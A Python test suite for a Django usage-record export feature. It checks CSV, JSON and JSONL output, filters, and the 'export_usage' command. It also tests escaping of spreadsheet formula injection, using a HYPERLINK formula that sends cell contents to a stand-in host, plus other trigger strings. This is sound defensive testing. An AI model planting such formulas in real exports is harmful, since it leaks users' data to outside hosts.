"""Files of records: read again they are the records, in every format."""

import csv
import io
import json
import re
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any
from uuid import UUID, uuid4

import pytest
from django.core.management.base import CommandError
from django.db import transaction
from hypothesis import given
from hypothesis import strategies as st

from digitalme.accounts.models import Team, User
from digitalme.statements import send
from tests.commands import run
from tests.usage.test_recorder import a_record
from usage import exports, recorder
from usage.exports import COLUMNS, Format, Selection
from usage.models import UsageRecord

NOON = datetime(2026, 3, 10, 12, tzinfo=UTC)
NUMBERS = ("input_tokens", "output_tokens", "cached_tokens", "reasoning_tokens", "response_ms")
FORMULA = '=HYPERLINK("http://example.com/?"&A1,"x")'


def keep(*records: recorder.Record) -> None:
    with transaction.atomic():
        send(recorder.record(records, now=NOON))


def calls_of(user: User, count: int) -> list[recorder.Record]:
    """Calls of which some begin at the same moment, in no order."""
    return [
        a_record(
            user_id=user.id,
            model=("gpt-4o", 'a "quoted", model', "=1+1")[index % 3],
            tag=("", "nightly", "ü€\n", "-5", "@x")[index % 5],
            cost=(None, 0, 12_500, 10**12)[index % 4],
            response_ms=(None, 420)[index % 2],
            status=("ok", "failed")[index % 2],
            timestamp=NOON + timedelta(microseconds=250_000 * (index * 7 % count // 3)),
        )
        for index in range(count)
    ]


def expected(records: list[recorder.Record]) -> list[dict[str, Any]]:
    """The rows as JSON has them."""
    found = []
    for one in sorted(records, key=lambda record: (record.timestamp, record.request_id)):
        facts = {name: getattr(one, name) for name in COLUMNS}
        facts["request_id"], facts["timestamp"] = str(one.request_id), one.timestamp.isoformat().replace("+00:00", "Z")
        facts["cost"] = None if one.cost is None else f"{Decimal(one.cost).scaleb(-9):.9f}"
        found.append(facts)
    return found


def read_csv(text: str) -> list[dict[str, Any]]:
    """The rows of a CSV file, with what is there for spreadsheets alone taken away again."""
    rows = []
    for row in csv.DictReader(io.StringIO(text, newline=""), strict=True):
        cells: dict[str, Any] = {name: re.sub(r"^'(?=[=+\-@])", "", cell) for name, cell in row.items()}
        cells |= {name: int(cells[name]) if cells[name] else None for name in NUMBERS}
        cells["cost"] = cells["cost"] or None
        rows.append(cells)
    return rows


READ: dict[Format, Callable[[str], list[dict[str, Any]]]] = {
    Format.CSV: read_csv,
    Format.JSON: json.loads,
    Format.JSONL: lambda text: [json.loads(line) for line in text.split("\n")[:-1]],
}


@pytest.mark.django_db
@pytest.mark.parametrize("form", Format)
@pytest.mark.parametrize("count", [0, 1, 4, 23])
def test_a_file_read_again_is_the_records_in_the_order_of_time(
    alice: User, bob: User, monkeypatch: pytest.MonkeyPatch, form: Format, count: int
) -> None:
    monkeypatch.setattr(exports, "PAGE_ROWS", 4)
    records = calls_of(alice, count)
    keep(*records, *calls_of(bob, 5))
    text = "".join(exports.stream(Selection(user_id=alice.pk), form))
    assert READ[form](text) == expected(records)
    if form is Format.CSV:
        assert text.startswith(",".join(COLUMNS) + "\r\n")


@pytest.mark.django_db
def test_every_filter_narrows_the_file(alice: User) -> None:
    team, token = uuid4(), uuid4()
    odd = a_record(
        user_id=alice.id,
        team_id=team,
        token_id=token,
        provider="anthropic",
        model="claude",
        key_source="team",
        status="cut",
        tag="nightly",
        timestamp=NOON - timedelta(days=1),
    )
    keep(odd, a_record(user_id=alice.id, timestamp=NOON), a_record(timestamp=NOON))
    narrow: list[dict[str, Any]] = [
        {"team_id": team},
        {"token_id": token},
        {"provider": "anthropic"},
        {"model": "claude"},
        {"key_source": "team"},
        {"status": "cut"},
        {"tag": "nightly"},
        {"end": NOON},
        {"start": NOON - timedelta(days=1), "end": NOON - timedelta(hours=23)},
    ]
    for one in narrow:
        wanted = Selection(user_id=alice.pk, **one)
        assert [row.request_id for row in wanted.records()] == [odd.request_id], one
        assert Selection.of_json(json.loads(json.dumps(wanted.as_json()))) == wanted
    assert Selection(user_id=alice.pk, start=NOON).records().count() == 1
    assert Selection().records().count() == 3


TRIGGERS = "=+-@\t\r\n\0\uff1d\uff0b\uff0d\uff20"


@given(
    lead=st.sampled_from(["", " ", "  ", "\ufeff", '"', "'", "\u00a0"]),
    sign=st.sampled_from("=+-@\uff1d"),
    rest=st.text(),
)
def test_nothing_that_may_begin_a_formula_begins_a_cell(lead: str, sign: str, rest: str) -> None:
    assert exports.harmless(lead + sign + rest).startswith("'")
    # A spreadsheet of another language parts cells at semicolons or tabs.
    for separator in ";\t":
        cells = exports.harmless(f"a{separator}{lead.strip()}{sign}{rest}").split(separator)
        assert [cell for cell in cells if cell.lstrip()[:1] in set(TRIGGERS) - {""} and cell.strip()] == []


@given(st.text(alphabet=st.characters(exclude_characters=TRIGGERS + ";", exclude_categories=["Cs"])))
def test_other_text_stays_as_it_is(text: str) -> None:
    assert exports.harmless(text) == text


@pytest.mark.once
def test_numbers_stay_numbers() -> None:
    row = (uuid4(), NOON, "openai", "+1", "user", 1, 2, 3, 4, 0, "ok", "", None, FORMULA)
    cells = next(csv.reader(io.StringIO(exports.body(Format.CSV, [row], first=True))))
    assert cells[5:10] == ["1", "2", "3", "4", "0.000000000"]
    assert (cells[3], cells[12], cells[13]) == ("'+1", "", "'" + FORMULA)


# --- The command --------------------------------------------------------------------------------------


@pytest.mark.django_db
def test_the_command_writes_everybodys_calls_or_one_persons(alice: User, bob: User, team: Team, tmp_path: Path) -> None:
    records = calls_of(alice, 7)
    others = a_record(user_id=bob.id, provider="anthropic", team_id=team.pk, timestamp=NOON)
    keep(*records, others)
    assert READ[Format.CSV](run("export_usage", "ALICE@example.com")) == expected(records)
    assert READ[Format.JSON](run("export_usage", "--format", "json")) == expected([*records, others])
    only = expected([others])
    assert READ[Format.JSONL](run("export_usage", "--provider", "anthropic", "--format", "jsonl")) == only
    assert READ[Format.JSONL](run("export_usage", "--team", team.slug, "--format", "jsonl")) == only
    file = tmp_path / "calls.csv"
    assert run("export_usage", "bob@example.com", "--output", str(file)) == ""
    assert READ[Format.CSV](file.read_bytes().decode()) == only
    assert (file.stat().st_mode & 0o777, list(tmp_path.iterdir())) == (0o600, [file])


@pytest.mark.django_db
def test_days_of_the_command_are_the_persons_own(alice: User) -> None:
    User.objects.filter(pk=alice.pk).update(time_zone="Pacific/Auckland")
    keep(a_record(user_id=alice.id, timestamp=NOON))  # the 11th there
    assert len(read_csv(run("export_usage", alice.email, "--from", "2026-03-11", "--to", "2026-03-11"))) == 1
    assert read_csv(run("export_usage", alice.email, "--to", "2026-03-10")) == []
    assert len(read_csv(run("export_usage", "--from", "2026-03-10", "--to", "2026-03-10"))) == 1


@pytest.mark.django_db
@pytest.mark.parametrize(
    "arguments",
    [
        ("nobody@example.com",),
        ("--team", "none"),
        ("--from", "yesterday"),
        ("--from", "2026-03-10", "--to", "2026-03-09"),
        ("--output", "/nowhere/at/all.csv"),
    ],
)
def test_the_command_says_what_is_wrong(arguments: tuple[str, ...]) -> None:
    with pytest.raises(CommandError):
        run("export_usage", *arguments)


def test_a_place_is_that_of_the_row(db: None) -> None:
    record = UsageRecord.objects.create(
        request_id=uuid4(), user_id=uuid4(), provider="openai", status="ok", timestamp=NOON
    )
    ((row,),) = exports.pages(Selection())
    assert exports.place_of(row) == (NOON, UUID(str(record.request_id)))
